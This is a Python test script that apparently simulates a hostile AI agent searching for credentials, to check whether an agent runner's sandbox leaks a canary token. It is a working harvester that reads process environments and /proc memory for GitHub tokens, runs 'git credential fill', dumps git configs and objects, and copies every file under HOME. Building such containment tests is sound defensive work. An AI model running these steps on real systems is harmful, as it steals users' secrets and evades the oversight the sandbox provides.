"""A hostile agent's search for credentials, run by the hostile-agent tests.

Usage: python3 hostile_attack.py LOOT_DIR [DIR...]

Everything found is written under LOOT_DIR (outside the repository); the test then looks for its
canary there. The script does not know the canary: it collects raw environments, command lines,
git configuration and files, and memory around anything that looks like a credential, as an
attacker would. `done` is written last, so the test knows the search ran to the end.
"""

import os
import re
import subprocess
import sys
import time

LOOT = sys.argv[1]
os.makedirs(LOOT, exist_ok=True)
# Further directories to read every file of (e.g. a runner's work folders), not knowable from
# inside the checkout. The loot of every role sits next to this one's and is never read back.
EXTRA_ROOTS = sys.argv[2:]
LOOT_ALL = os.path.dirname(os.path.realpath(LOOT))

# What a credential looks like to an attacker: token prefixes, auth headers, variable names, the
# base64 of `x-access-token:` that `actions/checkout` persists, and the tests' control marker.
INTERESTING = re.compile(
    rb"canary-|control-|ghp_|ghs_|github_pat_|x-access-token|eC1hY2Nlc3MtdG9rZW46"
    rb"|AUTHORIZATION|[Bb]earer |TOKEN=|extraheader",
)
MAX_REGION = 64 << 20


def save(name, data):
    with open(os.path.join(LOOT, name.replace("/", "_")), "ab") as f:
        f.write(data)
        f.write(b"\n")


def read(path, limit=8 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def run(args, cwd=None, stdin=b""):
    try:
        out = subprocess.run(
            args, cwd=cwd, input=stdin, capture_output=True, timeout=20,
            env=dict(os.environ, GIT_TERMINAL_PROMPT="0"),
        )
        return out.stdout + out.stderr
    except (OSError, subprocess.SubprocessError) as e:
        return str(e).encode()


def memory_hits(pid):
    """Reads every readable region of a process's memory; keeps windows around anything
    interesting. Returns the number of bytes read (0: memory closed to us)."""
    maps = read(f"/proc/{pid}/maps")
    if maps is None:
        return 0
    total = 0
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return 0
    with mem:
        for line in maps.decode(errors="replace").splitlines():
            fields = line.split()
            if len(fields) < 2 or not fields[1].startswith("r"):
                continue
            if len(fields) >= 6 and fields[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]"):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > MAX_REGION:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            if not data:
                continue
            total += len(data)
            for m in INTERESTING.finditer(data):
                save(f"mem-{pid}", data[max(0, m.start() - 256): m.end() + 256])
    return total


def scan_processes(seen_mem):
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        for what in ("environ", "cmdline"):
            data = read(f"/proc/{pid}/{what}")
            if data:
                save(f"{what}-{pid}", data)
        if pid not in seen_mem:
            n = memory_hits(pid)
            if n:
                seen_mem.add(pid)
                save("mem-readable", f"{pid} {n}".encode())


# 1. Its own environment, and those of its ancestors (the shell, the agent, hyperloop, ...).
save("own-environ", b"\0".join(k + b"=" + v for k, v in os.environb.items()))
save("own-status", read("/proc/self/status") or b"(unreadable)")
pid = os.getppid()
while pid > 1:
    cmdline = read(f"/proc/{pid}/cmdline") or b"(gone)"
    env = read(f"/proc/{pid}/environ")
    save("ancestors", f"{pid} ".encode() + cmdline.replace(b"\0", b" ")
         + (b" environ=unreadable" if env is None else b" environ=readable"))
    if env is not None:
        save(f"ancestor-environ-{pid}", env)
    stat = read(f"/proc/{pid}/stat") or b""
    try:
        pid = int(stat.rsplit(b")", 1)[1].split()[1])
    except (IndexError, ValueError):
        break

# 2. Every process it can see, over a few seconds: git children of hyperloop live briefly.
seen_mem = set()
deadline = time.time() + 3
while time.time() < deadline:
    scan_processes(seen_mem)
    time.sleep(0.2)

# 3. Git configuration at every level, in its checkout and in the repository it borrows from
#    (found through `objects/info/alternates`), and in every directory above both.
checkout = os.getcwd()
places = [checkout]
alternates = read(os.path.join(checkout, ".git", "objects", "info", "alternates")) or b""
main_repo = None
for line in alternates.decode(errors="replace").splitlines():
    objects = line.strip()
    if objects:
        common = os.path.dirname(objects)
        main_repo = os.path.dirname(common) if os.path.basename(common) == ".git" else common
        places.append(main_repo)
        places.append(common)
save("main-repo", (main_repo or "(not found)").encode())
for start in list(places):
    d = start
    while True:
        if d not in places:
            places.append(d)
        parent = os.path.dirname(d)
        if parent == d:
            break
        d = parent
for d in places:
    for level in ([], ["--local"], ["--worktree"], ["--global"], ["--system"]):
        save("git-config", run(["git", "config", "--show-origin", *level, "--get-regexp", "."], cwd=d))
    save("git-credential", run(["git", "credential", "fill"], cwd=d,
                               stdin=b"protocol=https\nhost=github.com\n\n"))

# 4. Every file hyperloop and git keep in the repository (its .git, .hyperloop/ logs and state,
#    other tasks' checkouts), in HOME, in its own checkout and in the directories it was given;
#    and every object, uncompressed.
roots = [checkout, os.environ.get("HOME", ""), *EXTRA_ROOTS]
if main_repo:
    roots.append(main_repo)
for root in roots:
    if not root:
        continue
    for dirpath, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if os.path.realpath(os.path.join(dirpath, d)) != LOOT_ALL]
        for name in files:
            path = os.path.join(dirpath, name)
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            data = read(path)
            if data:
                save("files", path.encode() + b"\n" + data)
if main_repo:
    save("objects", run(["git", "cat-file", "--batch-all-objects", "--batch"], cwd=main_repo))
    save("objects", run(["git", "log", "--all", "-p", "--format=%H %s%n%b"], cwd=main_repo))

save("done", b"yes")
